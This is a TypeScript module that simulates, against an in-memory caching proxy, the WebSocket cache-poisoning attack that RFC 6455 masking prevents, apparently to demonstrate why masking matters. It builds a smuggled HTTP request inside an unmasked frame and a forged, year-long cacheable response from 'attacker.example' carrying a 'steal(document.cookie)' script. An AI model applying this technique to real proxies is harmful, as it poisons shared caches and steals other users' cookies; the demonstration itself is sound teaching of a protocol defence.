/**
 * The attack that masking prevents (RFC 6455 §10.3): a page and its server exchange messages that
 * look like HTTP, so that a caching proxy between them stores a file for another host.
 */

import { shiftRange, type ByteRange } from '#core/bytes/bit-range.ts';
import { concatBytes } from '#core/bytes/byte-array.ts';
import { toLatin1 } from '#core/bytes/text.ts';
import { encodeFrame } from '#core/protocol/framing/frame.ts';
import { OPCODE } from '#core/protocol/framing/opcode.ts';
import { FIELD } from '#core/protocol/http/field-name.ts';
import { encodeRequestHead, encodeResponseHead } from '#core/protocol/http/http-head.ts';
import { keyOfNonce } from '#core/protocol/opening/accept-value.ts';
import { encodeOpeningRequest } from '#core/protocol/opening/opening-request.ts';
import { encodeOpeningResponse } from '#core/protocol/opening/opening-response.ts';
import { ProxiedConnection, urlOf, type ProxyCache, type ReadRequest } from './caching-proxy.ts';

export const ATTACKER_HOST = 'attacker.example';
export const VICTIM_HOST = 'cdn.example';
export const VICTIM_PATH = '/stats.js';
export const VICTIM_URL = urlOf(VICTIM_HOST, VICTIM_PATH);

const ATTACKERS_SCRIPT = toLatin1('steal(document.cookie)');
const REAL_SCRIPT = toLatin1('countVisit()');

export type PoisoningRun = {
  /** The opening handshake, which the proxy forwards. */
  readonly request: Uint8Array;
  readonly response: Uint8Array;
  /** The page's frame as it is on the wire. */
  readonly frame: Uint8Array;
  /** The bytes of the frame that the proxy takes for a request to the victim; null if none. */
  readonly foundRequest: ByteRange | null;
  /** The frame with which the attacker's server answers. */
  readonly answer: Uint8Array;
  /** The bytes of that frame that the proxy stores for the victim's URL; null if it doesn't. */
  readonly storedResponse: ByteRange | null;
  /** The request of another user behind the same proxy, for the victim's URL. */
  readonly nextRequest: Uint8Array;
  /** The file that this user gets. */
  readonly served: { readonly from: 'cache' | 'origin'; readonly body: Uint8Array };
};

/**
 * Plays the attack. Without a masking key the page's frame isn't masked, as no browser sends it.
 * `nonce` has 16 bytes.
 */
export function playCachePoisoning(maskingKey: Uint8Array | null, nonce: Uint8Array): PoisoningRun {
  const cache: ProxyCache = new Map();
  const proxy = new ProxiedConnection(cache);
  const key = keyOfNonce(nonce);
  const request = encodeOpeningRequest({
    target: '/chat',
    host: ATTACKER_HOST,
    key,
    origin: `http://${ATTACKER_HOST}`,
  });
  const response = encodeOpeningResponse({ key });
  proxy.readClient(request);
  proxy.readServer(response);

  const frame = encodeFrame({ opcode: OPCODE.text, maskingKey, payload: requestText() });
  const found = proxy.readClient(frame).find(isForVictim);
  const answer = forgedAnswer();
  const stored = proxy.readServer(answer).find(({ storedFor }) => storedFor === VICTIM_URL);

  const nextRequest = encodeRequestHead('GET', VICTIM_PATH, [[FIELD.host, VICTIM_HOST]]);
  const asked = new ProxiedConnection(cache).readClient(nextRequest).find(isForVictim);
  const inCache = cache.get(asked?.url ?? '');
  return {
    request,
    response,
    frame,
    foundRequest: found ? shiftRange(found.range, -request.length) : null,
    answer,
    storedResponse: stored ? shiftRange(stored.range, -response.length) : null,
    nextRequest,
    served: inCache ? { from: 'cache', body: inCache } : { from: 'origin', body: REAL_SCRIPT },
  };
}

function isForVictim({ method, url }: ReadRequest): boolean {
  return method === 'GET' && url === VICTIM_URL;
}

/** The page's message. The line break first separates it from the frame's header. */
function requestText(): Uint8Array {
  return concatBytes([
    toLatin1('\r\n'),
    encodeRequestHead('GET', VICTIM_PATH, [[FIELD.host, VICTIM_HOST]]),
  ]);
}

/** The frame of the attacker's server, which has its response ready whatever arrives. */
function forgedAnswer(): Uint8Array {
  const head = encodeResponseHead(200, 'OK', [
    ['Content-Type', 'text/javascript'],
    ['Cache-Control', 'public, max-age=31536000'],
    [FIELD.contentLength, String(ATTACKERS_SCRIPT.length)],
  ]);
  const payload = concatBytes([head, ATTACKERS_SCRIPT]);
  return encodeFrame({ opcode: OPCODE.text, maskingKey: null, payload });
}
